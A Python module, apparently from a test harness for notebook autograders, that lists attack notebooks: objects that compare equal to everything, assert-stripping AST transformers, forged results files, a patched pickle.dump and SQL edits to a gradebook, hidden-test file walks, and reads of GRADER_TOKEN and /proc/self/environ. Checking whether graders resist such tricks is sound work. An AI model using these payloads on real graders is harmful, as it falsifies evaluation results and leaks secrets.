"""The attacks: what is handed in, and what each one is after.

Every system gets the same cells. Where an attack has to know the insides of a grader, it tries
what it knows of all of them.
"""

from __future__ import annotations

from dataclasses import dataclass, field

SENTENCE = "hidden_sentence_of_q"
"""What hidden tests say and nothing else does, but for a question's number."""

ANSWERS = {
    "q1": "def add_up(numbers):\n    return float(sum(numbers))\n",
    "q2": "def mean(numbers):\n    return sum(numbers) / len(numbers)\n",
}
"""Right answers; neither leans on the other."""

WRONG = {
    "q1": "def add_up(numbers):\n    return -1.0\n",
    "q2": "def mean(numbers):\n    return -1.0\n",
}

TOOLS = r"""
import os, re

PATTERN = "hidden[_]sentence_of_q[12]"  # does not match itself

def out(words):
    text = f"{words}\n"
    os.write(1, text.encode())
    try:
        with open(DROP, "a") as stream:
            stream.write(text)
    except OSError:
        pass
"""
"""Carries out what an attack found: to the terminal, and to a file outside the working folder."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One notebook to hand in.

    Attributes:
        name: what it does.
        aim: ``points`` more than honest; ``rest``: that the other question loses its points;
            ``tests``, ``variable``, ``server``: to reach it.
        wrong: the question whose answer is wrong, or the empty string.
        cells: sources by place: ``before`` everything, ``q1``, ``q2``.
        tags: what the student writes into the metadata of the test cells.
        says: whether it says ``attack-ran``, so that a broken one is not taken for a held one.
    """

    name: str
    aim: str = "points"
    wrong: str = ""
    cells: dict[str, str] = field(default_factory=dict)
    tags: tuple[str, ...] = ()
    says: bool = True


BASELINES = (
    Attack("all right", says=False),
    Attack("q1 wrong", wrong="q1", says=False),
    Attack("q2 wrong", wrong="q2", says=False),
)

_ALWAYS_EQUAL = """
class Same:
    def __eq__(self, other):
        out("attack-ran")
        return True

def add_up(numbers):
    out("attack-ran")
    return Same()
"""

_LIAR = """
class Liar(float):
    __eq__ = __lt__ = __le__ = lambda self, other: True
    __sub__ = __rsub__ = __add__ = lambda self, other: self
    __abs__ = lambda self: self
    __hash__ = float.__hash__

def mean(numbers):
    out("attack-ran")
    return Liar(-1.0)
"""

_NO_ASSERTS = """
import ast
from IPython import get_ipython

class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(NoAsserts())
out("attack-ran")
"""

_SILENCE = """
from IPython.core.interactiveshell import InteractiveShell

for name in ("showtraceback", "_showtraceback", "showsyntaxerror"):
    setattr(InteractiveShell, name, lambda self, *words, **options: None)
out("attack-ran")
"""

_FORGE = """
import glob, json, pickle, sqlite3

forged = {"score": 5, "tests": [{"name": n, "score": 5, "max_score": 5} for n in ("q1", "q2")]}
for folder in (".", "..", "../results"):
    for name in ("results.json", "result.json", "results.pkl", "grades.json"):
        try:
            with open(os.path.join(folder, name), "w") as stream:
                json.dump(forged, stream)
        except OSError:
            pass

dump_before = pickle.dump

def dump(thing, *words, **options):
    if type(thing).__name__ == "GradingResults":
        for test in thing.results.values():
            test.update_score(test.possible)
    return dump_before(thing, *words, **options)

pickle.dump = dump

for path in glob.glob("../../../gradebook.db"):
    with sqlite3.connect(path) as book:
        book.execute("update grade set manual_score = 1.25")
out("attack-ran")
"""

_EXIT = """
def add_up(numbers):
    return -1.0

out("attack-ran")
os._exit(0)
"""

_WALK = """
tops, seen = [os.getcwd()], 0
for _ in range(3):
    tops.append(os.path.dirname(tops[-1]))
for top in tops:
    for folder, folders, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr", "/lib", "/dev")):
            folders.clear()
            continue
        for name in files:
            seen += 1
            if seen < 3000:
                try:
                    with open(os.path.join(folder, name), errors="ignore") as stream:
                        for word in re.findall(PATTERN, stream.read(2**20)):
                            out(word)
                except OSError:
                    pass
        if seen >= 3000:
            break
out("attack-ran")
"""

_HOOK = """
from IPython import get_ipython

def hook(info):
    for word in re.findall(PATTERN, info.raw_cell or ""):
        out(word)

get_ipython().events.register("pre_run_cell", hook)
"""

_FRAMES = """
def add_up(numbers):
    import sys
    frame = sys._getframe()
    while frame is not None:
        for word in re.findall(PATTERN, repr(frame.f_code.co_consts)):
            out(word)
        frame = frame.f_back
    out("attack-ran")
    return float(sum(numbers))
"""

_VARIABLE = """
out(os.environ.get("GRADER_TOKEN"))
try:
    with open("/proc/self/environ") as stream:
        out(stream.read().replace(chr(0), " "))
except OSError:
    pass
out("attack-ran")
"""

_CONNECT = """
import socket
try:
    socket.create_connection(("127.0.0.1", PORT), 2).close()
except OSError:
    pass
out("attack-ran")
"""

_LOOP = """
def add_up(numbers):
    return -1.0

out("attack-ran")
while True:
    pass
"""

ATTACKS = (
    Attack("an object equal to everything", wrong="q1", cells={"q1": _ALWAYS_EQUAL}),
    Attack("a number that lies about sums and order", wrong="q2", cells={"q2": _LIAR}),
    Attack("an AST transformer drops every assert", wrong="q1", cells={"before": _NO_ASSERTS}),
    Attack(
        "tag `skip-execution` on the test cells",
        wrong="q1",
        tags=("skip-execution",),
        says=False,
    ),
    Attack("IPython shows no traceback", wrong="q1", cells={"before": _SILENCE}),
    Attack("forged and edited results files", wrong="q1", cells={"before": _FORGE}),
    Attack("`os._exit(0)` in a cell", wrong="q1", cells={"q1": _EXIT}),
    Attack("walks files for hidden tests", "tests", cells={"before": _WALK}),
    Attack(
        "`pre_run_cell` hook and frame walk",
        "tests",
        cells={"before": _HOOK, "q1": _FRAMES},
    ),
    Attack("reads the environment", "variable", cells={"before": _VARIABLE}),
    Attack("connects to a local server", "server", cells={"before": _CONNECT}),
    Attack("an endless loop in q1", "rest", wrong="q1", cells={"q1": _LOOP}),
)
